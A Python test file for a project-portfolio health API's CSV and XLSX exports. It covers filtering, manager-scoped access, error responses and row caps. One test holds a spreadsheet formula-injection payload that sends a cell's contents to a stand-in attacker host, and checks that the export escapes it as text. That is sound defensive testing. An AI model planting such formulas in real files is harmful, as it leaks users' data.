"""GET /v1/portfolio/health as CSV and XLSX: the JSON's projects, same filters and access."""

from __future__ import annotations

import csv
import io
from typing import TYPE_CHECKING, Any

import pytest
from openpyxl import load_workbook
from pmo_common.web.exports import CSV, XLSX
from pmo_monitoring.api import portfolio_export

if TYPE_CHECKING:
    from conftest import Monitoring

ADA = "ada@example.com"
GRACE = "grace@example.com"
SUPPLY = "11111111-1111-1111-1111-111111111111"
FINANCE = "22222222-2222-2222-2222-222222222222"


async def _seeded(monitoring: Monitoring) -> None:
    """Three projects in the supply portfolio (red, green, and amber: no report for 100 days)
    and one in finance."""
    red = await monitoring.known_project(name="Apollo", portfolio_id=SUPPLY)
    green = await monitoring.known_project(name="Borealis", portfolio_id=SUPPLY, manager=GRACE)
    await monitoring.known_project(name="Cygnus", portfolio_id=SUPPLY)
    await monitoring.known_project(name="Draco", portfolio_id=FINANCE)
    late = monitoring.report_body(percent_complete=40, actual_cost=50000)
    await monitoring.file_report(red["project_id"], late)
    await monitoring.file_report(green["project_id"], monitoring.report_body())


async def _export(monitoring: Monitoring, accept: str, **params: Any) -> Any:
    answer = await monitoring.client.get(
        "/v1/portfolio/health",
        params=params,
        headers={**monitoring.auth_header(), "Accept": accept},
    )
    assert answer.status_code == 200, answer.text
    return answer


def _as_text(item: dict[str, Any]) -> dict[str, str]:
    """A JSON item as its CSV row reads: every value as text, null as an empty cell."""
    return {key: "" if value is None else str(value) for key, value in item.items()}


async def test_the_csv_has_the_jsons_projects_with_the_same_figures_for_the_same_filters(
    monitoring: Monitoring,
) -> None:
    await _seeded(monitoring)
    listed = await monitoring.read_portfolio_health(portfolio_id=SUPPLY)
    answer = await _export(monitoring, CSV, portfolio_id=SUPPLY, limit=1)  # limit: JSON only
    assert answer.headers["content-type"] == "text/csv; charset=utf-8; header=present"
    disposition = answer.headers["content-disposition"]
    assert disposition.startswith('attachment; filename="portfolio-health-')
    assert disposition.endswith('.csv"')
    rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8"), newline="")))
    assert rows == [_as_text(item) for item in listed["projects"]["items"]]
    assert [row["rag"] for row in rows] == ["red", "amber", "green"]  # worst first
    assert {row["portfolio_id"] for row in rows} == {SUPPLY}


FIGURES = ("pv", "ev", "ac", "bac", "cpi", "spi", "spi_t", "eac", "vac")


async def test_each_row_carries_the_projects_stored_figures_as_numbers(
    monitoring: Monitoring,
) -> None:
    await _seeded(monitoring)
    listed = await monitoring.read_portfolio_health(portfolio_id=SUPPLY)
    red = listed["projects"]["items"][0]
    stored = (await monitoring.read_health(red["project_id"]))["metrics"]
    # The JSON item has the figures GET /v1/projects/{id}/health has: 40% of 100,000 earned
    # for 50,000 spent (CPI 0.8), half the time gone (SPI 0.8).
    assert {name: red[name] for name in FIGURES} == {name: stored[name] for name in FIGURES}
    assert (red["ev"], red["ac"], red["cpi"], red["eac"]) == (40000.0, 50000.0, 0.8, 125000.0)
    answer = await _export(monitoring, CSV, portfolio_id=SUPPLY)
    rows = {row["project_id"]: row for row in csv.DictReader(io.StringIO(answer.text, newline=""))}
    for item in listed["projects"]["items"]:
        for name in FIGURES:
            cell = rows[item["project_id"]][name]
            assert (float(cell) if cell else None) == item[name], (item["name"], name)
    never_reported = next(item for item in listed["projects"]["items"] if item["name"] == "Cygnus")
    assert all(never_reported[name] is None for name in FIGURES)


def _xlsx_text(value: object) -> str:
    """A workbook cell as the CSV writes it: a whole figure such as 50000.0 is stored as a
    number and read back as the int 50000, a date as a midnight datetime."""
    if value is None:
        return ""
    if isinstance(value, int | float) and not isinstance(value, bool):
        return str(float(value))
    return str(value).removesuffix(" 00:00:00")


async def test_the_workbook_has_the_same_rows_as_the_csv(monitoring: Monitoring) -> None:
    await _seeded(monitoring)
    as_csv = await _export(monitoring, CSV)
    as_xlsx = await _export(monitoring, XLSX)
    assert as_xlsx.headers["content-type"] == XLSX
    assert as_xlsx.headers["content-disposition"].endswith('.xlsx"')
    sheet = load_workbook(io.BytesIO(as_xlsx.content)).active
    assert sheet is not None
    cells = [[_xlsx_text(value) for value in row] for row in sheet.iter_rows(values_only=True)]
    assert cells == list(csv.reader(io.StringIO(as_csv.content.decode(), newline="")))
    assert len(cells) == 1 + 4


async def test_a_managers_export_lists_only_their_projects(monitoring: Monitoring) -> None:
    await _seeded(monitoring)
    answer = await monitoring.client.get(
        "/v1/portfolio/health",
        headers={**monitoring.auth_header("project_manager", GRACE), "Accept": CSV},
    )
    assert answer.status_code == 200, answer.text
    rows = list(csv.DictReader(io.StringIO(answer.text, newline="")))
    assert [(row["name"], row["manager"]) for row in rows] == [("Borealis", GRACE)]


async def test_an_unusable_accept_is_a_406_problem_and_json_stays_the_default(
    monitoring: Monitoring,
) -> None:
    refused = await monitoring.client.get(
        "/v1/portfolio/health", headers={**monitoring.auth_header(), "Accept": "application/pdf"}
    )
    assert refused.status_code == 406
    assert refused.headers["content-type"].startswith("application/problem+json")
    assert refused.json()["errors"][0]["field"] == "header.Accept"
    default = await monitoring.client.get("/v1/portfolio/health", headers=monitoring.auth_header())
    assert default.headers["content-type"] == "application/json"
    assert "Accept" in [name.strip() for name in default.headers["vary"].split(",")]


async def test_exports_refuse_callers_as_the_json_does_with_json_problems(
    monitoring: Monitoring,
) -> None:
    anonymous = await monitoring.client.get("/v1/portfolio/health", headers={"Accept": CSV})
    no_role = await monitoring.client.get(
        "/v1/portfolio/health",
        headers={**monitoring.auth_header("contractor", ADA), "Accept": XLSX},
    )
    assert (anonymous.status_code, no_role.status_code) == (401, 403)
    for refused in (anonymous, no_role):
        assert refused.headers["content-type"].startswith("application/problem+json")


async def test_a_project_name_that_looks_like_a_formula_is_exported_as_text(
    monitoring: Monitoring,
) -> None:
    name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    await monitoring.known_project(name=name)
    answer = await _export(monitoring, CSV)
    (row,) = csv.DictReader(io.StringIO(answer.text, newline=""))
    assert row["name"] == "'" + name


async def test_more_matching_projects_than_an_export_holds_is_a_422_naming_the_cap(
    monitoring: Monitoring, monkeypatch: pytest.MonkeyPatch
) -> None:
    await _seeded(monitoring)
    monkeypatch.setattr(portfolio_export, "EXPORT_ROW_CAP", 3)
    refused = await monitoring.client.get(
        "/v1/portfolio/health", headers={**monitoring.auth_header(), "Accept": CSV}
    )
    assert refused.status_code == 422
    assert refused.json()["errors"][0]["field"] == "query"
    assert "more than 3 rows match" in refused.json()["errors"][0]["reason"]
    narrowed = await _export(monitoring, CSV, portfolio_id=SUPPLY)
    assert len(narrowed.text.splitlines()) == 1 + 3
